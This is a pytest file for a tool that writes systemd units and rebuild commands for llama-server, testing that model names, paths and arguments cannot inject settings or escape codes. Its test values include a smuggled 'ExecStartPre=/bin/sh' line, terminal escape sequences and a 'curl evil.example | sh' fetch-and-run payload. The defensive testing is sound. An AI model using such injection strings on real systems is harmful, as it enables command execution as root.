"""Issue 12, hole 1: text from a GGUF, a path or an argument never injects into a unit, a shell line or the terminal;
and issue 13's systemd --user / --system units, each valid for its manager.

The attack is the issue's own: a model whose general.name is "Qwen3 8B\\n[Service]\\nExecStartPre=..." made
`advise --format systemd` write a unit that runs that command as root once installed as its header says.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from tunehost.printable import first_unwritable, one_line, printable_lines, require_printable
from tunehost.errors import TunehostError

from .conftest import dense_tensors, write_gguf

SNAPSHOT = Path(__file__).resolve().parents[1] / "data" / "snapshots" / "desktop-12700f-rtx3060"
ATTACK_NAME = "Qwen3 8B\n[Service]\nExecStartPre=/bin/sh -c 'id > /tmp/tunehost-pwned'\n"
SERVER = shutil.which("true") or "/bin/true"


def _model(tmp_path: Path, name: str, file_name: str = "model.gguf") -> Path:
    return write_gguf(tmp_path / file_name, "llama", dense_tensors(2), n_layer=2, name=name)


def _unit(cli, model: Path, *extra: str) -> str:
    r = cli("advise", "--model", str(model), "--snapshot", str(SNAPSHOT), "--llama-server", SERVER,
            "--format", "systemd", *extra)
    assert r.exit_code == 0, r.output
    return r.stdout


# ---- a strict reading of the unit syntax (systemd.syntax(7), systemd.unit(5), systemd.service(5)) ----

ALLOWED_KEYS = {
    "Unit": {"Description", "After", "Wants"},
    "Service": {"Type", "ExecStart", "CPUAffinity", "Environment", "LimitMEMLOCK", "Nice", "Restart", "RestartSec",
                "DynamicUser", "User", "SupplementaryGroups", "LoadCredential"},
    "Install": {"WantedBy"},
}


def parse_unit(text: str) -> dict[str, list[tuple[str, str]]]:
    """Sections -> (key, value) lines. Fails on anything systemd would read differently from what was meant:
    a line continuation, a key outside the expected set, a setting before the first section, a section twice."""
    sections: dict[str, list[tuple[str, str]]] = {}
    current = None
    for number, line in enumerate(text.split("\n"), 1):
        assert "\r" not in line and not any(ord(c) < 32 for c in line), f"line {number}: control character"
        if not line.strip() or line.startswith(("#", ";")):
            continue
        assert not line.endswith("\\"), f"line {number} continues onto the next one: {line!r}"
        section = re.fullmatch(r"\[([A-Za-z]+)\]", line)
        if section:
            current = section.group(1)
            assert current in ALLOWED_KEYS and current not in sections, f"line {number}: section [{current}]"
            sections[current] = []
            continue
        assert current is not None, f"line {number}: a setting before any section"
        key, sep, value = line.partition("=")
        assert sep and key in ALLOWED_KEYS[current], f"line {number}: unexpected setting {line!r}"
        sections[current].append((key, value))
    return sections


def _values(unit: dict, section: str, key: str) -> list[str]:
    return [v for k, v in unit.get(section, []) if k == key]


def _verify(unit_text: str, tmp_path: Path, *, user: bool) -> None:
    analyze = shutil.which("systemd-analyze")
    if analyze is None:
        pytest.skip("systemd-analyze is not installed (the structural test above still ran)")
    path = tmp_path / "llama-server.service"
    path.write_text(unit_text)
    runtime = tmp_path / "runtime"
    runtime.mkdir(mode=0o700, exist_ok=True)
    env = dict(os.environ, XDG_RUNTIME_DIR=str(runtime))  # a user manager's verify needs a runtime directory
    argv = [analyze] + (["--user"] if user else []) + ["verify", str(path)]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60, env=env)
    if done.returncode != 0 and "Failed to initialize manager" in done.stderr:
        pytest.skip(f"systemd-analyze cannot run here: {done.stderr.strip().splitlines()[-1]}")
    assert done.returncode == 0, done.stderr
    # verify exits 0 on unknown keys and bad values too: any complaint about our file is a failure
    assert str(path) not in done.stdout + done.stderr, done.stdout + done.stderr


# ---- hole 1: the attack ----

def test_attack_name_stays_inside_description(cli, tmp_path) -> None:
    unit_text = _unit(cli, _model(tmp_path, ATTACK_NAME))
    unit = parse_unit(unit_text)
    assert list(unit) == ["Unit", "Service", "Install"]
    assert _values(unit, "Unit", "Description") == \
        ["llama-server: Qwen3 8B?[Service]?ExecStartPre=/bin/sh -c 'id > /tmp/tunehost-pwned'"]
    assert not any(line.startswith("ExecStartPre") for line in unit_text.splitlines())
    assert len(_values(unit, "Service", "ExecStart")) == 1


def test_attack_unit_verifies(cli, tmp_path) -> None:
    _verify(_unit(cli, _model(tmp_path, ATTACK_NAME)), tmp_path, user=False)


def test_name_with_specifier_and_trailing_backslash(cli, tmp_path) -> None:
    """% starts a specifier in Description= and a trailing backslash would continue the line into the next."""
    unit = parse_unit(_unit(cli, _model(tmp_path, "Q 100% %n tuned\\")))
    assert _values(unit, "Unit", "Description") == ["llama-server: Q 100%% %%n tuned"]
    assert _values(unit, "Unit", "After") == ["network-online.target"]


@pytest.mark.parametrize("fmt", ["systemd", "shell", "human", "json"])
def test_newline_in_model_path_is_one_line_and_exit_1(cli, tmp_path, fmt) -> None:
    model = _model(tmp_path, "fine", "evil\nExecStartPre=touch pwned.gguf")
    r = cli("advise", "--model", str(model), "--snapshot", str(SNAPSHOT), "--format", fmt)
    assert r.exit_code == 1 and r.stdout == ""
    assert r.stderr.count("\n") == 1 and "--model contains a newline (U+000A)" in r.stderr


@pytest.mark.parametrize("host", ["0.0.0.0\nExecStartPre=/bin/sh", "127.0.0.1\x1b[2J", "::1\r"])
def test_control_character_in_host_is_refused(cli, tmp_path, host) -> None:
    r = cli("advise", "--model", str(_model(tmp_path, "fine")), "--snapshot", str(SNAPSHOT), "--format", "systemd",
            "--host", host)
    assert r.exit_code == 1 and r.stdout == "" and r.stderr.count("\n") == 1
    assert r.stderr.startswith("tunehost: error: --host contains ")
    assert "\x1b" not in r.stderr and "\r" not in r.stderr


def test_llama_server_path_from_a_snapshot_is_checked_too(cli, tmp_path) -> None:
    """The renderers refuse an unwritable word whatever its source (here a snapshot's which.json)."""
    from tunehost.formats.quoting import systemd_quote as _systemd_quote
    from tunehost.formats.shell import render_shell  # noqa: F401

    with pytest.raises(TunehostError, match="a llama-server argument contains a newline"):
        _systemd_quote("/usr/bin/llama-server\nExecStartPre=/bin/sh")


def test_ansi_in_name_never_reaches_the_terminal(cli, tmp_path) -> None:
    model = _model(tmp_path, "\x1b[2J\x1b]0;owned\x07Qwen3\x1b[31m 8B\nfake line")
    r = cli("advise", "--model", str(model), "--snapshot", str(SNAPSHOT))
    assert r.exit_code in (0, 2), r.output
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "tunehost advise — ?[2J?]0;owned?Qwen3?[31m 8B?fake line on snapshot" in r.stdout
    data = json.loads(cli("advise", "--model", str(model), "--snapshot", str(SNAPSHOT), "--format", "json").stdout)
    assert data["model_name"] == "?[2J?]0;owned?Qwen3?[31m 8B?fake line"


def test_error_lines_are_printable(cli, tmp_path) -> None:
    bad = tmp_path / "x\x1b[31m.gguf"
    bad.write_bytes(b"not a gguf")
    r = cli("advise", "--model", str(bad), "--snapshot", str(SNAPSHOT))
    assert r.exit_code == 1 and "\x1b" not in r.stderr and r.stderr.count("\n") == 1


def test_printable_helpers() -> None:
    assert one_line("a\nb\tc\x1b[0m\u202ed") == "a?b?c?[0m?d"
    assert one_line("no\u00a0break") == "no break"
    assert one_line("x" * 10, 5) == "xxxx…"
    assert printable_lines("a\nb\x1b[1m\rc\r\nd") == "a\nb?[1m?c\nd"
    assert first_unwritable("ok path/é ü") is None
    assert first_unwritable("a\u2028b") == "a control character (U+2028)"
    assert require_printable("/models/Qwen3 8B.gguf", "--model") == "/models/Qwen3 8B.gguf"
    with pytest.raises(TunehostError, match=r"--host contains a carriage return \(U\+000D\)"):
        require_printable("::1\r", "--host")


# ---- issue 13: system and user units ----

def test_system_unit_structure(cli, qwen30b_sparse, tmp_path) -> None:
    text = _unit(cli, qwen30b_sparse)
    unit = parse_unit(text)
    assert _values(unit, "Install", "WantedBy") == ["multi-user.target"]
    assert not _values(unit, "Service", "Nice") and _values(unit, "Service", "LimitMEMLOCK") == ["infinity"]
    assert "--prio" not in _values(unit, "Service", "ExecStart")[0]  # only where measured (tunehost tune)
    assert _values(unit, "Service", "DynamicUser") == ["yes"]  # never root
    assert _values(unit, "Service", "SupplementaryGroups") == ["video render"]  # the GPU device nodes
    assert "#   install -m 644 llama-server.service /etc/systemd/system/ && systemctl daemon-reload" in text
    assert "#   systemctl enable --now llama-server.service" in text
    _verify(text, tmp_path, user=False)


def test_user_unit_structure(cli, qwen30b_sparse, tmp_path) -> None:
    text = _unit(cli, qwen30b_sparse, "--user")
    unit = parse_unit(text)
    assert _values(unit, "Install", "WantedBy") == ["default.target"]
    assert not _values(unit, "Service", "Nice") and not _values(unit, "Service", "LimitMEMLOCK")
    assert not _values(unit, "Unit", "After") and not _values(unit, "Unit", "Wants")  # no system targets
    exec_start = _values(unit, "Service", "ExecStart")[0]
    assert "--prio" not in exec_start
    assert _values(unit, "Service", "CPUAffinity") == ["0,2,4,6,8,10,12,14"]  # works in a user manager
    assert not _values(unit, "Service", "DynamicUser")  # a user manager runs it as you
    # this snapshot's memlock limit blocks --mlock: the user unit says so instead of pretending to lift it
    assert "--mlock" not in exec_start.split() and "# no --mlock: the memlock limit is below" in text
    assert "#   mkdir -p ~/.config/systemd/user && install -m 644 llama-server.service ~/.config/systemd/user/" in text
    assert "#   systemctl --user daemon-reload && systemctl --user enable --now llama-server.service" in text
    _verify(text, tmp_path, user=True)


def test_user_flag_needs_systemd_format(cli, tmp_path) -> None:
    r = cli("advise", "--model", str(_model(tmp_path, "fine")), "--snapshot", str(SNAPSHOT), "--user")
    assert r.exit_code == 1 and "--user chooses the kind of systemd unit" in r.stderr


# ---- --host beyond loopback without an API key ----

def _advise_json(cli, model: Path, *extra: str) -> dict:
    r = cli("advise", "--model", str(model), "--snapshot", str(SNAPSHOT), "--format", "json", *extra)
    assert r.exit_code in (0, 2), r.output
    return json.loads(r.stdout)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.20", "inference.lan"])
def test_exposed_host_without_key_warns(cli, tmp_path, host) -> None:
    model = _model(tmp_path, "fine")
    warnings = _advise_json(cli, model, "--host", host)["warnings"]
    assert any(w.startswith(f"--host {host} exposes llama-server") and "--api-key-file FILE" in w
               and "--api-key KEY" in w for w in warnings)
    human = cli("advise", "--model", str(model), "--snapshot", str(SNAPSHOT), "--host", host)
    assert f"WARN --host {host} exposes llama-server" in human.stdout.replace("\n", " ")


@pytest.mark.parametrize("host", [None, "127.0.0.1", "localhost", "::1", "/run/llama/server.sock"])
def test_loopback_host_does_not_warn(cli, tmp_path, host) -> None:
    extra = ("--host", host) if host else ()
    warnings = _advise_json(cli, _model(tmp_path, "fine"), *extra)["warnings"]
    assert not any("exposes llama-server" in w for w in warnings)


def test_api_key_file_is_passed_and_silences_the_warning(cli, tmp_path) -> None:
    keys = tmp_path / "keys"
    keys.write_text("k1\n")
    # a llama-server whose --help the snapshot does not hold: the flags are written as planned
    data = _advise_json(cli, _model(tmp_path, "fine"), "--host", "0.0.0.0", "--api-key-file", str(keys),
                        "--llama-server", "/opt/elsewhere/llama-server")
    assert not any("exposes llama-server" in w for w in data["warnings"])
    argv = data["argv"]
    assert argv[argv.index("--api-key-file") + 1] == str(keys.resolve())


def test_api_key_file_dropped_by_an_old_build_still_warns(cli, tmp_path) -> None:
    """The snapshot's llama-server --help (trimmed) does not list --api-key-file: the server is exposed after all."""
    keys = tmp_path / "keys"
    keys.write_text("k1\n")
    data = _advise_json(cli, _model(tmp_path, "fine"), "--host", "0.0.0.0", "--api-key-file", str(keys))
    assert "--api-key-file" not in data["argv"]
    assert "dropped --api-key-file: this llama-server does not list it in --help" in data["notes"]
    assert any(w.startswith("--host 0.0.0.0 exposes llama-server") for w in data["warnings"])


@pytest.fixture(scope="module")
def qwen30b_sparse(tmp_path_factory) -> Path:
    from .test_advise_cli import sparse_qwen3_30b

    return sparse_qwen3_30b(tmp_path_factory.mktemp("models") / "Qwen3-30B-A3B-Q4_K.gguf")


# ---- fix commands a user pastes (doctor) ----

def test_llama_build_rebuild_commands_are_shell_quoted() -> None:
    """The rebuild fix names the source directory (from a binary's path, which a snapshot supplies) and CMake lists
    joined by ";" (a command separator in a shell): both are quoted."""
    import shlex

    from tunehost.checks.llama_build import _rebuild
    from tunehost.facts.llama import LlamaBinary
    from tunehost.parsers.llama_version import CUDA, ROCM

    src = "/home/x/llama.cpp; curl evil.example | sh #"
    binary = LlamaBinary("llama-server", f"{src}/build/bin/llama-server", "PATH")
    fix = _rebuild(binary, ["86", "89"], [], want=CUDA)
    assert shlex.split(fix.commands[0]) == ["cd", src, "&&", "git", "pull"]
    assert "-DCMAKE_CUDA_ARCHITECTURES='86;89'" in fix.commands[1]
    assert "-DGPU_TARGETS='gfx1100;gfx1151'" in _rebuild(binary, [], ["gfx1100", "gfx1151"], want=ROCM).commands[1]
